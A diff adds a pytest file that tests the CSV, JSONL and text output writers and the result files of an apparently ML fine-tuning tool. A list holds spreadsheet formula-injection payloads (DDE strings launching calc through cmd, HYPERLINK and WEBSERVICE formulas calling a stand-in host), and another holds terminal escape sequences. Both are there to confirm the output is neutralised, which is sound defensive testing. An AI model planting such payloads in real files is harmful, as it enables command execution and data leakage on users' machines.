@@ -1,0 +1,310 @@
+"""What people and spreadsheets read: CSV, JSONL and text rows, the summary, the result files."""
+
+import csv
+import io
+import json
+import unicodedata
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from mlfinetune import rundir
+from mlfinetune.records import LabelMetrics, LabelSpace, MetricTable, Prediction
+from mlfinetune.tables import FORMATS, Choice, inert, printable, summary, write_results
+
+LABELS = LabelSpace(("cat", "dog", "bird"))
+FORMULAS = [
+    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"click")', '=1+1";=2'),
+    *("=IMPORTXML(A1;B1)", '=WEBSERVICE("http://x.example/")', '=DDE("cmd";"/C calc";"x")', "="),
+    *("+1+1", "+49 30 1234", "+cmd|' /C calc'!A0", "+", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1"),
+    *("-", "@SUM(1+1)", "@", "==1", "=+1", "@=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "＝", "\t"),
+    *("\t=1", "\r=1", "\n=1", "\0=1", "\r\n=1", "\0", "\t\t@x"),
+]
+PLAIN = ["cat", "a=b", "1+1", " =1", "'=1", "", "é", "🐈", "x\t=1", "img-1.jpg", "./-1.jpg", "#1"]
+NAMES = ["a\nb.jpg", "猫/é e\u0301.jpg", "a\udcffb.jpg", '"x"', "\\udcff", "\u2028", "\0", "=1+1"]
+NAMES += ["\r\n", "\ud800", "caf\udce9\n猫", "a,b|c"]
+CONTROLS = ["\x1b[31m", "\r", "\n", "\t", "\a", "\b", "\0", "\x7f", "\x9b2J", "\u202e", "\u2028"]
+CONTROLS += ["\udcff", "\u200f", "\x1b]0;title\a", "\u2066", "\x85"]
+
+
+def row(name: str, *p: float, error: str | None = None) -> Prediction:
+    """A prediction, or an unreadable picture."""
+    return Prediction(name, np.array(p) if p else None, error)
+
+
+def written(
+    format: str,
+    *rows: Prediction,
+    labels: LabelSpace = LABELS,
+    top: int | None = None,
+    only_labels: bool = False,
+) -> str:
+    """What a format makes of the rows, in a file as `predict` opens it."""
+    bytes_ = io.BytesIO()
+    with io.TextIOWrapper(bytes_, "utf-8", errors="backslashreplace", newline="") as file:
+        writer = FORMATS[format](file, Choice(labels, 0.5, top), only_labels)
+        for prediction in rows:
+            writer.write(prediction)
+        file.flush()
+        return bytes_.getvalue().decode()
+
+
+def cells(text: str) -> list[list[str]]:
+    """The rows of a CSV."""
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def lines(text: str) -> list[dict[str, object]]:
+    """The rows of a JSONL."""
+    assert text.endswith("\n")
+    return [json.loads(line) for line in text.removesuffix("\n").split("\n")]
+
+
+# ---- inert ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_a_formula_is_neutralised(cell: str) -> None:
+    """What a spreadsheet would run gets an apostrophe, and is otherwise the same."""
+    assert inert(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", PLAIN)
+def test_other_cells_are_left_alone(cell: str) -> None:
+    """A sign that is not the first is text."""
+    assert inert(cell) == cell
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
+    """Names, labels, the labels of the header and errors are inert, after reading too."""
+    labels = LabelSpace((text, "b"))
+    made = written("csv", row(text, 0.9, 0.1), row("x", error=text), labels=labels)
+    assert cells(made) == [
+        ["image", "labels", "'" + text, "b", "error"],
+        ["'" + text, "'" + text, "0.900000", "0.100000", ""],
+        ["x", "", "", "", "'" + text],
+    ]
+
+
+# ---- CSV --------------------------------------------------------------------------------
+
+
+def test_csv_is_wide() -> None:
+    """Header, labels over the threshold, probabilities with 6 digits in label order."""
+    text = written("csv", row("b.jpg", 0.5, 0.123456789, 1.0), row("a.jpg", 0.4, 0.0, 1e-9))
+    assert text == (
+        "image,labels,cat,dog,bird,error\r\n"
+        "b.jpg,cat|bird,0.500000,0.123457,1.000000,\r\n"
+        "a.jpg,,0.400000,0.000000,0.000000,\r\n"
+    )
+
+
+def test_an_unreadable_picture_has_a_row_with_an_error() -> None:
+    """It stands in its place, as wide as the others."""
+    text = written("csv", row("a.jpg", 0.9, 0, 0), row("b.jpg", error="cut, short"))
+    assert cells(text)[2] == ["b.jpg", "", "", "", "", "cut, short"]
+    assert {len(cell) for cell in cells(text)} == {6}
+
+
+def test_rows_stay_in_order() -> None:
+    """A thousand rows come out as they went in."""
+    names = [f"{i * 7919 % 1000}.jpg" for i in range(1000)]
+    text = written("csv", *(row(name, 0.1, 0.2, 0.3) for name in names))
+    assert [cell[0] for cell in cells(text)[1:]] == names
+
+
+def test_top_names_the_most_probable() -> None:
+    """The K best by falling probability, threshold or not, equal ones in label order."""
+    rows = (row("a", 0.1, 0.3, 0.2), row("b", 0.9, 0.8, 0.95), row("c", 0.4, 0.4, 0.4))
+    text = written("csv", *rows, top=2)
+    assert [cell[1] for cell in cells(text)[1:]] == ["dog|bird", "bird|cat", "cat|dog"]
+    assert cells(text)[1][2:5] == ["0.100000", "0.300000", "0.200000"]
+
+
+def test_top_beyond_the_labels_names_all() -> None:
+    """More labels than there are cannot be asked for in vain."""
+    assert cells(written("csv", row("a", 0.1, 0.3, 0.2), top=9))[1][1] == "dog|bird|cat"
+
+
+def test_only_labels_leaves_the_probabilities_out() -> None:
+    """Image, labels and error are what stays, in CSV and in JSONL."""
+    rows = (row("a", 0.9, 0.1, 0.7), row("b", error="bad"))
+    made = cells(written("csv", *rows, only_labels=True))
+    assert made == [["image", "labels", "error"], ["a", "cat|bird", ""], ["b", "", "bad"]]
+    first, second = lines(written("jsonl", *rows, only_labels=True))
+    assert first == {"image": "a", "labels": ["cat", "bird"]}
+    assert second == {"image": "b", "error": "bad"}
+
+
+# ---- JSONL ------------------------------------------------------------------------------
+
+
+def test_a_line_of_jsonl() -> None:
+    """Name, labels over the threshold, every score rounded to 6 digits."""
+    (line,) = lines(written("jsonl", row("a.jpg", 0.5, 0.123456789, 1.0)))
+    scores = {"cat": 0.5, "dog": 0.123457, "bird": 1.0}
+    assert line == {"image": "a.jpg", "labels": ["cat", "bird"], "scores": scores}
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_jsonl_is_exact(name: str) -> None:
+    """Names, labels and errors come back as they were, one line a row, no apostrophes."""
+    labels = LabelSpace((name, "b"))
+    first, second = lines(written("jsonl", row(name, 0.9, 0.1), row("x", 0.9, 0.1), labels=labels))
+    assert first == {"image": name, "labels": [name], "scores": {name: 0.9, "b": 0.1}}
+    assert second == {"image": "x", "labels": [name], "scores": {name: 0.9, "b": 0.1}}
+    assert lines(written("jsonl", row("x", error=name))) == [{"image": "x", "error": name}]
+
+
+def test_unicode_is_readable_in_jsonl() -> None:
+    """A name is written in its own letters where UTF-8 has them."""
+    assert '"猫.jpg"' in written("jsonl", row("猫.jpg", 0.1, 0.2, 0.3))
+
+
+# ---- text -------------------------------------------------------------------------------
+
+
+def test_a_line_of_text() -> None:
+    """Labels by falling probability; the nearest one where none is over the threshold."""
+    text = written("text", row("a.jpg", 0.6, 0.1, 0.9), row("b.jpg", 0.2, 0.3, 0.1))
+    assert text == "a.jpg: bird 0.90, cat 0.60\nb.jpg: (none; nearest: dog 0.30)\n"
+    assert written("text", row("b.jpg", error="bad")) == "b.jpg: error: bad\n"
+
+
+@pytest.mark.parametrize("control", CONTROLS)
+def test_text_moves_no_cursor(control: str) -> None:
+    """Names, labels and errors cannot colour the screen, move the cursor or turn the text."""
+    name = f"a{control}b"
+    labels = LabelSpace((name, f"{control}c"))
+    rows = (row(name, 0.9, 0.8), row(name, 0.1, 0.2), row(name, error=name))
+    for only_labels in (False, True):
+        shown = written("text", *rows, labels=labels, only_labels=only_labels)
+        assert shown.count("\n") == 3
+        assert shown.replace("\n", "").isprintable()
+
+
+def test_printable_keeps_what_can_be_seen() -> None:
+    """Letters of all scripts and emoji stay."""
+    assert printable("café 猫 🐈 naïve_1-2.jpg") == "café 猫 🐈 naïve_1-2.jpg"
+
+
+# ---- the summary ------------------------------------------------------------------------
+
+
+def label(name: str, ap: float | None = 0.5, positives: int = 1) -> LabelMetrics:
+    """One label's numbers."""
+    return LabelMetrics(name, positives, 1, ap, ap, ap, ap, 0.5)
+
+
+def measured(*rows: LabelMetrics) -> MetricTable:
+    """A table with these labels."""
+    names = ("mAP", "micro_AP", "macro_F1", "micro_F1", "CP", "CR", "CF1", "OP", "OR", "OF1")
+    averages: dict[str, float | None] = {name: at / 10 for at, name in enumerate(names)}
+    return MetricTable(averages, rows, 10**7, sum(r.AP is not None for r in rows))
+
+
+def width(line: str) -> int:
+    """Columns that a line takes on a terminal."""
+    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line)
+
+
+def test_the_summary_has_the_numbers() -> None:
+    """Images, labels that were scored, and the six averages that the contract names."""
+    text = summary(measured(label("cat"), label("dog", None)))
+    assert text.startswith("10000000 images, mAP over 1 of 2 labels\n")
+    numbers = "mAP 0.0000 macro F1 0.2000 CF1 0.6000 micro AP 0.1000 micro F1 0.3000 OF1 0.9000"
+    assert numbers in " ".join(text.split())
+
+
+def test_the_summary_is_sorted_by_ap() -> None:
+    """The best label first, undefined ones last and shown as --."""
+    rows = (label("low", 0.1), label("none", None, 0), label("high", 0.9), label("zero", 0.0))
+    *_, high, low, zero, none = summary(measured(*rows)).splitlines()
+    assert [line.split()[0] for line in (high, low, zero)] == ["high", "low", "zero"]
+    assert none.split() == ["none", "--", "--", "0"]
+    assert zero.split() == ["zero", "0.0000", "0.0000", "1"]
+
+
+@pytest.mark.parametrize("name", ["x" * 300, "猫" * 60, "a b " * 40, "\x1b[31m" * 30, "é" * 44])
+def test_the_summary_fits_80_columns(name: str) -> None:
+    """Long names, wide letters and control characters do not break the table."""
+    text = summary(measured(label(name, 0.5, 10**9), label("short")))
+    assert max(width(line) for line in text.splitlines()) <= 80
+    assert text.replace("\n", "").isprintable()
+    assert len({width(line) for line in text.splitlines()[-2:]}) == 1
+
+
+def test_a_thousand_labels_are_cut_in_the_middle() -> None:
+    """The best twenty and the worst twenty are shown, the others counted."""
+    text = summary(measured(*(label(f"label {i}", i / 1000) for i in range(1000))))
+    shown = [line.split()[1] for line in text.splitlines() if line.startswith("  label ")][1:]
+    assert shown == [str(i) for i in [*range(999, 979, -1), *range(19, -1, -1)]]
+    assert "  ... 960 labels in between: see per_label.csv ..." in text
+    assert max(width(line) for line in text.splitlines()) <= 80
+
+
+@pytest.mark.parametrize("count", [40, 41])
+def test_forty_labels_are_all_shown(count: int) -> None:
+    """Nothing is counted where nothing is left out."""
+    text = summary(measured(*(label(f"label{i}", i / 50) for i in range(count))))
+    assert ("... 1 labels in between" in text) == (count == 41)
+    assert sum(line.startswith("  label") for line in text.splitlines()) == 1 + 40
+
+
+# ---- result files -----------------------------------------------------------------------
+
+
+def results(folder: Path, *rows: LabelMetrics) -> MetricTable:
+    """The result files of two images."""
+    table = measured(*rows)
+    scores = np.array([[0.75] * len(rows), [0.25] * len(rows)])
+    write_results(folder, table, ["b.jpg", "=a.jpg"], scores, {"data": "validation", "epoch": 3})
+    return table
+
+
+def test_metrics_json_has_the_keys_of_the_contract(tmp_path: Path) -> None:
+    """The numbers, null where undefined, and what was measured."""
+    results(tmp_path, label("cat", 0.25, 7), label('"dög"\n', None, 0))
+    content = json.loads((tmp_path / rundir.METRICS).read_text("utf-8"))
+    promised = {"mAP", "micro_AP", "macro_F1", "micro_F1", "CF1", "OF1", "labels_scored", "images"}
+    assert content.keys() >= promised | {"per_label", "data", "epoch"}
+    assert (content["CF1"], content["labels_scored"], content["images"]) == (0.6, 1, 10**7)
+    cat, dog = content["per_label"]["cat"], content["per_label"]['"dög"\n']
+    assert cat.items() >= {"AP": 0.25, "F1": 0.25, "threshold": 0.5, "positives": 7}.items()
+    assert dog.items() >= {"AP": None, "F1": None, "threshold": 0.5, "positives": 0}.items()
+
+
+def test_per_label_csv_has_a_row_a_label(tmp_path: Path) -> None:
+    """In label order, undefined cells empty, names inert."""
+    results(tmp_path, label("cat", 0.25, 7), label("=dog", None, 0))
+    header, cat, dog = cells((tmp_path / rundir.PER_LABEL).read_bytes().decode())
+    assert header[:3] + header[5:7] == ["label", "AP", "F1", "threshold", "positives"]
+    assert cat == ["cat", "0.250000", "0.250000", "0.250000", "0.250000", "0.5", "7", "1"]
+    assert dog == ["'=dog", "", "", "", "", "0.5", "0", "1"]
+
+
+def test_predictions_csv_is_what_predict_writes(tmp_path: Path) -> None:
+    """The validation images in the format of predict, inert too."""
+    results(tmp_path, label("cat"), label("dog"))
+    assert cells((tmp_path / rundir.PREDICTIONS).read_bytes().decode()) == [
+        ["image", "labels", "cat", "dog", "error"],
+        ["b.jpg", "cat|dog", "0.750000", "0.750000", ""],
+        ["'=a.jpg", "", "0.250000", "0.250000", ""],
+    ]
+
+
+def test_results_are_three_whole_files(tmp_path: Path) -> None:
+    """No temporary file stays, and metrics.json, the mark of completeness, is the last."""
+    results(tmp_path, label("cat"))
+    files = sorted(tmp_path.iterdir(), key=lambda path: path.stat().st_mtime_ns)
+    assert {path.name for path in files} == {"metrics.json", "per_label.csv", "predictions.csv"}
+    assert files[-1].stat().st_mtime_ns == (tmp_path / rundir.METRICS).stat().st_mtime_ns
+
+
+def test_names_that_are_no_unicode_can_be_written(tmp_path: Path) -> None:
+    """A label from a folder whose name is no UTF-8 does not lose the results of a run."""
+    results(tmp_path, label("caf\udce9"), label("dog"))
+    content = json.loads((tmp_path / rundir.METRICS).read_text("utf-8"))
+    assert list(content["per_label"]) == ["caf\udce9", "dog"]
